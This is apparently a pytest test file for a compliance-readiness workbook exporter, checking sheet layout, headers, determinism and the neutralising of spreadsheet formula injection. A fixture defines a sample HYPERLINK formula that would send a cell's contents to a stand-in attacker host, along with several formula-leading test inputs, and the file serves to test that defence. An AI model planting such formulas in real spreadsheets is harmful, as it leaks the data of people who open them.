from __future__ import annotations

from datetime import date
from pathlib import Path
from zipfile import ZipFile

import openpyxl
import pytest

from assistant.export.workbook import safe, write
from assistant.model import MappingRun
from ingest.model import Failure
from tests.factories import access_review, document, graded_run, link, policy

INDICATION = "Readiness indication (not an audit opinion)"
EVIL = '=HYPERLINK("http://evil.example/?"&A1,"click")'


@pytest.fixture
def run() -> MappingRun:
    bad = document("notes/=cmd.txt", f"{EVIL}\nhttp://evil.example\n", "record")
    items = [policy(), access_review(1, date(2025, 9, 20)), bad]
    links = [link(item, "CC6.3") for item in items]
    return graded_run(items, links, skipped=(Failure("+broken.pdf", "@cut short"),))


@pytest.fixture
def written(run: MappingRun, tmp_path: Path) -> Path:
    path = tmp_path / "readiness.xlsx"
    write(run, path)
    return path


def test_the_sheets_are_there_in_order(written: Path) -> None:
    book = openpyxl.load_workbook(written)
    assert book.sheetnames == ["Summary", "Matrix", "Gaps", "Evidence", "Links", "Skipped"]


@pytest.mark.parametrize("name", ["Matrix", "Gaps", "Evidence", "Links", "Skipped"])
def test_tables_have_frozen_heads_and_filters(written: Path, name: str) -> None:
    sheet = openpyxl.load_workbook(written)[name]
    assert (sheet.freeze_panes, bool(sheet.auto_filter.ref)) == ("C2", True)


def test_no_cell_is_a_formula_or_a_link(written: Path) -> None:
    book = openpyxl.load_workbook(written)
    cells = [c for sheet in book for row in sheet.iter_rows() for c in row if c.value is not None]
    assert {c.data_type for c in cells} <= {"s", "n"}
    assert not [c for c in cells if c.hyperlink]
    assert not [c.value for c in cells if str(c.value).startswith(("=", "+", "-", "@", "\t"))]


def test_the_evil_text_is_still_there_to_read(written: Path) -> None:
    sheet = openpyxl.load_workbook(written)["Links"]
    quotes = [row[5] for row in sheet.iter_rows(min_row=2, values_only=True)]
    assert f"'{EVIL}" in quotes


@pytest.mark.parametrize(
    ("text", "cell"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("  =1", "'  =1"),
        ("＝1", "'＝1"),
        ("five = 5", "five = 5"),
    ],
)
def test_text_that_could_be_a_formula_is_made_safe(text: str, cell: str) -> None:
    assert safe(text) == cell


def test_a_cell_never_exceeds_what_a_spreadsheet_takes() -> None:
    assert len(safe("x" * 100_000)) <= 32_767


def test_every_sheet_prints_the_words_and_its_page(written: Path) -> None:
    for sheet in openpyxl.load_workbook(written):
        assert INDICATION in sheet.oddFooter.left.text
        assert INDICATION in sheet.oddHeader.left.text


def test_the_summary_names_scope_and_rule(written: Path) -> None:
    rows = {
        row[0]: row[1]
        for row in openpyxl.load_workbook(written)["Summary"].iter_rows(values_only=True)
    }
    assert INDICATION in rows
    assert rows["Scope"] == "Type II, 2025-07-01 to 2026-06-30; Security"
    assert str(rows["Rule that fired"]).startswith("1 of 4")


def test_the_matrix_has_every_criterion(written: Path) -> None:
    sheet = openpyxl.load_workbook(written)["Matrix"]
    assert sheet.max_row == 62


def test_the_same_run_gives_the_same_bytes(run: MappingRun, tmp_path: Path) -> None:
    write(run, tmp_path / "a.xlsx")
    write(run, tmp_path / "b.xlsx")
    with ZipFile(tmp_path / "a.xlsx") as left, ZipFile(tmp_path / "b.xlsx") as right:
        assert {n: left.read(n) for n in left.namelist()} == {
            n: right.read(n) for n in right.namelist()
        }
